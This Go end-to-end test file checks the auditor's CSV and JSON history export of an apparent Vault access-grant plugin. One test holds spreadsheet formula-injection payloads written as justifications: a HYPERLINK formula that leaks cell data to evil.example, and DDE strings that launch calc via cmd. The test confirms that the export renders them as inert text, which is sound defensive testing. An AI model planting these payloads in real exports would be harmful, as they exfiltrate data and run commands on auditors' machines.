package e2e

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"
)

// The history export as an auditor gets it: over HTTP from the real server, with a token
// that holds the README's operator/auditor policy (testdata/access-operator.hcl), parsed
// as a spreadsheet or a script would.

// api sends one request to Vault's HTTP API (token "" is the root token) and returns the
// status, the response's headers and its body.
func (e *env) api(t *testing.T, token, method, path string, body map[string]interface{}) (int, http.Header, []byte) {
	t.Helper()
	var rd io.Reader
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			t.Fatal(err)
		}
		rd = bytes.NewReader(b)
	}
	req, err := http.NewRequest(method, e.s.URL()+"/v1/"+path, rd)
	if err != nil {
		t.Fatal(err)
	}
	if token == "" {
		token = e.s.RootToken
	}
	req.Header.Set("X-Vault-Token", token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	out, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, resp.Header, out
}

// apiData is api for a JSON answer with status want; it returns the answer's data.
func (e *env) apiData(t *testing.T, token, method, path string, body map[string]interface{}, want int) map[string]interface{} {
	t.Helper()
	status, _, out := e.api(t, token, method, path, body)
	if status != want {
		t.Fatalf("%s %s: want %d, got %d: %s", method, path, want, status, out)
	}
	var v struct {
		Data map[string]interface{} `json:"data"`
	}
	if len(out) > 0 {
		if err := json.Unmarshal(out, &v); err != nil {
			t.Fatalf("%s %s: %v\n%s", method, path, err, out)
		}
	}
	return v.Data
}

// auditor logs a new person in who holds testdata/access-operator.hcl on mount.
func (e *env) auditor(t *testing.T, name, mount string) *person {
	t.Helper()
	e.writePolicy(t, name, policyForMount(t, "access-operator.hcl", mount))
	return e.person(t, name, name)
}

// historyCSV reads mount/history?format=csv&query as who and returns the status, the
// content type and the parsed cells (header first); body is the raw answer.
func (e *env) historyCSV(t *testing.T, token, mount string, query url.Values) (status int, contentType string, cells [][]string, body []byte) {
	t.Helper()
	q := url.Values{"format": {"csv"}}
	for k, v := range query {
		q[k] = v
	}
	status, h, body := e.api(t, token, http.MethodGet, mount+"/history?"+q.Encode(), nil)
	if status != http.StatusOK {
		return status, h.Get("Content-Type"), nil, body
	}
	cells, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil || len(cells) == 0 {
		t.Fatalf("history CSV does not parse: %v\n%s", err, body)
	}
	return status, h.Get("Content-Type"), cells, body
}

// csvMaps is the CSV's rows keyed by its header.
func csvMaps(cells [][]string) []map[string]string {
	var out []map[string]string
	for _, r := range cells[1:] {
		m := map[string]string{}
		for i, v := range r {
			m[cells[0][i]] = v
		}
		out = append(out, m)
	}
	return out
}

// historyJSON follows every page of mount/history (query, limit per page) as who.
func (e *env) historyJSON(t *testing.T, token, mount string, query url.Values, limit int) []map[string]interface{} {
	t.Helper()
	var all []map[string]interface{}
	q := url.Values{}
	for k, v := range query {
		q[k] = v
	}
	q.Set("limit", fmt.Sprint(limit))
	for pages := 0; ; pages++ {
		if pages > 1000 {
			t.Fatal("history pages do not end")
		}
		d := e.apiData(t, token, http.MethodGet, mount+"/history?"+q.Encode(), nil, http.StatusOK)
		rows, _ := d["history"].([]interface{})
		for _, r := range rows {
			all = append(all, r.(map[string]interface{}))
		}
		next, _ := d["next_after"].(string)
		if next == "" {
			return all
		}
		q.Set("after", next)
	}
}

// formulaStart says whether a spreadsheet reads cell v as a formula.
func formulaStart(v string) bool {
	return v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0]))
}

// Issue 23 #5: justifications (and a service's stated requester) written as spreadsheet
// formulas go through to grants that end; the auditor's CSV shows each as text (a leading
// '), no cell of it is a formula, and the JSON history keeps the true value. A
// justification that starts with a tab or CR is refused where it is written.
func TestAttackExportCSVFormulasAreText(t *testing.T) {
	f := flowsEnv(t)
	e := f.e
	role := uniqueName(t)
	e.root(t, "kv", "put", "kv/"+role+"/db", "v=1")
	e.root(t, "kv", "metadata", "put", "-custom-metadata=owner=kv-owners", "kv/"+role+"/db")
	f.role(t, role, "resources=kv/"+role+"/*", "approval=required", "approvers=owner", "ttl=5m")
	f.role(t, role+"-svc", "resources=kv/"+role+"/*", "ttl=5m")
	auditor := e.auditor(t, "auditor-"+role, flowsMount)

	evil := []string{
		`=HYPERLINK("http://evil.example/"&A1,"click")`,
		"+1+1",
		"-1-1+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"'=1+1", // a quote gets one more: the CSV's rule undoes without doubt
	}
	want := map[string]string{} // grant ID -> its justification
	for _, why := range evil {
		d := e.apiData(t, f.people["alice"].token, http.MethodPost, flowsMount+"/requests/"+role,
			map[string]interface{}{"resources": "kv/" + role + "/db", "justification": why}, http.StatusOK)
		if d["justification"] != why {
			t.Fatalf("request keeps the justification as written: %v", d["justification"])
		}
		id := d["request_id"].(string)
		f.approve(t, "bob", id)
		g := f.pickUp(t, id)
		want[g.GrantID] = why
		e.root(t, "lease", "revoke", "-sync", g.LeaseID)
	}
	// A service's stated requester may start with + - @ (letters, digits, space, @._+-).
	svc := e.apiData(t, "", http.MethodPost, flowsMount+"/grants/"+role+"-svc",
		map[string]interface{}{"resources": "kv/" + role + "/db", "requester": "+1+1", "justification": "-2+3"}, http.StatusOK)
	svcID := svc["grant_id"].(string)
	want[svcID] = "-2+3"
	e.root(t, "lease", "revoke", "-sync", "-prefix", flowsMount+"/grants/"+role+"-svc")
	// Tab and CR never get in: a 400 that names the field, and no request.
	for _, why := range []string{"\t=1+1", "\r=1+1"} {
		status, _, out := e.api(t, f.people["alice"].token, http.MethodPost, flowsMount+"/requests/"+role,
			map[string]interface{}{"resources": "kv/" + role + "/db", "justification": why})
		if status != http.StatusBadRequest || !strings.Contains(string(out), "justification must not contain control characters") {
			t.Fatalf("justification %q: want a 400 naming justification, got %d %s", why, status, out)
		}
	}

	q := url.Values{"resource": {"kv/" + role + "/db"}}
	deadline := time.Now().Add(2 * time.Minute)
	var rows []map[string]string
	for {
		status, ct, cells, body := e.historyCSV(t, auditor.token, flowsMount, q)
		if status != http.StatusOK || !strings.HasPrefix(ct, "text/csv") {
			t.Fatalf("the auditor's CSV: %d %s\n%s", status, ct, body)
		}
		if rows = csvMaps(cells); len(rows) >= len(want) || time.Now().After(deadline) {
			for i, r := range cells {
				for j, v := range r {
					if formulaStart(v) {
						t.Fatalf("CSV row %d column %s is a live formula: %q", i, cells[0][j], v)
					}
				}
			}
			break
		}
		time.Sleep(time.Second)
	}
	if len(rows) != len(want) {
		t.Fatalf("CSV has %d rows, want %d: %v", len(rows), len(want), rows)
	}
	for _, r := range rows {
		why, ok := want[r["grant_id"]]
		if !ok || r["justification"] != "'"+why {
			t.Fatalf("grant %s: CSV justification %q, want %q", r["grant_id"], r["justification"], "'"+why)
		}
		if r["grant_id"] == svcID && r["requester"] != "'+1+1" {
			t.Fatalf("the stated requester in the CSV: %q", r["requester"])
		}
	}
	// JSON is the true value.
	js := e.historyJSON(t, auditor.token, flowsMount, q, 100)
	if len(js) != len(want) {
		t.Fatalf("JSON history: %v", js)
	}
	for _, h := range js {
		if h["justification"] != want[h["grant_id"].(string)] {
			t.Fatalf("JSON justification %q, want %q", h["justification"], want[h["grant_id"].(string)])
		}
		if h["grant_id"] == svcID && h["requester"] != "+1+1" {
			t.Fatalf("JSON stated requester %q", h["requester"])
		}
	}
}

// Issue 23 #6: more ended grants than a page (the default limit, 100) and the README's
// "curl ... > access.csv" gets every one of them, each once; asking the CSV for a page
// (limit, after) is a 400 instead of a silent first page. The JSON pages, followed by
// next_after, hold the same grants.
func TestAttackExportCSVIsNotCutAtOnePage(t *testing.T) {
	f := flowsEnv(t)
	e := f.e
	role := uniqueName(t)
	f.role(t, role, "resources=kv/"+role+"/*", "ttl=10m")
	auditor := e.auditor(t, "auditor-"+role, flowsMount)

	const n = 105 // default page limit + 5
	// Four at a time, each a direct grant of a service (its stated requester).
	issue := func(i int) (string, error) {
		body := fmt.Sprintf(`{"resources":"kv/%s/db","requester":"svc-%03d"}`, role, i)
		req, err := http.NewRequest(http.MethodPost, e.s.URL()+"/v1/"+flowsMount+"/grants/"+role, strings.NewReader(body))
		if err != nil {
			return "", err
		}
		req.Header.Set("X-Vault-Token", e.s.RootToken)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			return "", err
		}
		defer resp.Body.Close()
		var v struct {
			Data struct {
				GrantID string `json:"grant_id"`
			} `json:"data"`
		}
		out, _ := io.ReadAll(resp.Body)
		if resp.StatusCode != http.StatusOK || json.Unmarshal(out, &v) != nil || v.Data.GrantID == "" {
			return "", fmt.Errorf("grant %d: %d %s", i, resp.StatusCode, out)
		}
		return v.Data.GrantID, nil
	}
	ids, errs := make(chan string, n), make(chan error, n)
	var wg sync.WaitGroup
	work := make(chan int)
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range work {
				if id, err := issue(i); err != nil {
					errs <- err
				} else {
					ids <- id
				}
			}
		}()
	}
	for i := 0; i < n; i++ {
		work <- i
	}
	close(work)
	wg.Wait()
	close(ids)
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}
	want := map[string]bool{}
	for id := range ids {
		want[id] = true
	}
	if len(want) != n {
		t.Fatalf("%d grants issued, want %d", len(want), n)
	}
	e.root(t, "lease", "revoke", "-sync", "-prefix", flowsMount+"/grants/"+role)

	q := url.Values{"role": {role}}
	var rows []map[string]string
	deadline := time.Now().Add(3 * time.Minute)
	for {
		status, ct, cells, body := e.historyCSV(t, auditor.token, flowsMount, q)
		if status != http.StatusOK || !strings.HasPrefix(ct, "text/csv") {
			t.Fatalf("the auditor's CSV: %d %s\n%s", status, ct, body)
		}
		if rows = csvMaps(cells); len(rows) >= n || time.Now().After(deadline) {
			break
		}
		time.Sleep(2 * time.Second)
	}
	seen := map[string]bool{}
	for _, r := range rows {
		if !want[r["grant_id"]] || seen[r["grant_id"]] {
			t.Fatalf("CSV row of grant %q: not one of the test's, or twice", r["grant_id"])
		}
		seen[r["grant_id"]] = true
	}
	if len(seen) != n {
		t.Fatalf("the CSV holds %d of %d ended grants", len(seen), n)
	}

	// A page of CSV is refused, not cut short.
	for _, field := range []string{"limit", "after"} {
		qq := url.Values{"role": {role}, field: {"2"}}
		status, _, _, body := e.historyCSV(t, auditor.token, flowsMount, qq)
		if status != http.StatusBadRequest || !strings.Contains(string(body), field+": format=csv is not paged") {
			t.Fatalf("format=csv with %s: want a 400 naming it, got %d %s", field, status, body)
		}
	}

	// JSON, a page of 2 at a time: the same grants, each once.
	js := e.historyJSON(t, auditor.token, flowsMount, q, 2)
	got := map[string]bool{}
	for _, h := range js {
		id := h["grant_id"].(string)
		if !seen[id] || got[id] {
			t.Fatalf("JSON page row of grant %q: not in the CSV, or twice", id)
		}
		got[id] = true
	}
	if len(got) != n {
		t.Fatalf("JSON pages hold %d of %d", len(got), n)
	}
}

// Issue 23 #7: a grant picked up from a request an auto_approve rule approved names the
// rule in its read and, once it ends, in its history, JSON and CSV, which outlives the
// request (tidied 7 days after it ends).
func TestExportAutoApprovedGrantNamesItsRule(t *testing.T) {
	f := flowsEnv(t)
	e := f.e
	role := uniqueName(t)
	e.root(t, "kv", "put", "kv/"+role+"/db", "v=1")
	e.root(t, "kv", "metadata", "put", "-custom-metadata=owner=kv-owners", "kv/"+role+"/db")
	f.role(t, role, "resources=kv/"+role+"/*", "approval=required", "approvers=owner", "ttl=5m",
		`auto_approve=[{"name":"alice-db","entities":["alice"],"resources":["kv/`+role+`/db"],"max_ttl":"10m"}]`)
	auditor := e.auditor(t, "auditor-"+role, flowsMount)

	d := f.as(t, "alice", "write", flowsMount+"/requests/"+role, "resources=kv/"+role+"/db")["data"].(map[string]interface{})
	if d["status"] != "approved" || d["auto_approved_by"] != "alice-db" {
		t.Fatalf("the request: %v", d)
	}
	g := f.pickUp(t, d["request_id"].(string))
	if g.Data["auto_approved_by"] != "alice-db" {
		t.Fatalf("the pickup's answer: auto_approved_by %v", g.Data["auto_approved_by"]) // never the password
	}
	live := e.apiData(t, auditor.token, http.MethodGet, flowsMount+"/grants/"+role+"/"+g.GrantID, nil, http.StatusOK)
	if live["auto_approved_by"] != "alice-db" || len(live["approvals"].([]interface{})) != 0 {
		t.Fatalf("the live grant's read: %v", live)
	}
	e.root(t, "lease", "revoke", "-sync", g.LeaseID)

	q := url.Values{"role": {role}}
	var js []map[string]interface{}
	for deadline := time.Now().Add(2 * time.Minute); ; time.Sleep(time.Second) {
		if js = e.historyJSON(t, auditor.token, flowsMount, q, 100); len(js) > 0 || time.Now().After(deadline) {
			break
		}
	}
	if len(js) != 1 || js[0]["grant_id"] != g.GrantID || js[0]["auto_approved_by"] != "alice-db" || js[0]["request_id"] != d["request_id"] {
		t.Fatalf("JSON history: %v", js)
	}
	status, _, cells, body := e.historyCSV(t, auditor.token, flowsMount, q)
	if status != http.StatusOK {
		t.Fatalf("CSV: %d %s", status, body)
	}
	rows := csvMaps(cells)
	// New columns go last, so a consumer reading by position keeps working:
	// auto_approved_by, then requested_by (requests on behalf), then bundle.
	if h := cells[0]; h[len(h)-3] != "auto_approved_by" || h[len(h)-2] != "requested_by" || h[len(h)-1] != "bundle" || len(rows) != 1 || rows[0]["grant_id"] != g.GrantID || rows[0]["auto_approved_by"] != "alice-db" || rows[0]["approvers"] != "" {
		t.Fatalf("CSV history: %v", cells)
	}
}
